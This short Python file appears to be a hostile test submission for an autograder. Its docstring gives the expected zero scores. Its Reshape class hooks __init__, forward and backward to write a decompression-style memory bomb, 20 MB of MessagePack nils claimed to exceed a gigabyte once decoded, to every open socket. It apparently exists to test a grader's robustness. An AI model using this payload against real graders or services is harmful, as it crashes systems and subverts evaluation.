"""Send twenty megabytes of empty lists, which would take more than a gigabyte in the grader's memory.

Deserves: ex03/forward 0, ex03/backward 0
"""

import os
import stat
import struct

ROW = b"\xdd" + struct.pack(">I", 99_999) + b"\x90" * 99_999
BOMB = b"\xdd" + struct.pack(">I", 201) + b"\xa1l" + ROW * 200


def explode(*args, **kwargs):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                data = memoryview(struct.pack(">I", len(BOMB)) + BOMB)
                while data:
                    data = data[os.write(descriptor, data) :]
        except OSError:
            continue


class Reshape:
    __init__ = forward = backward = explode
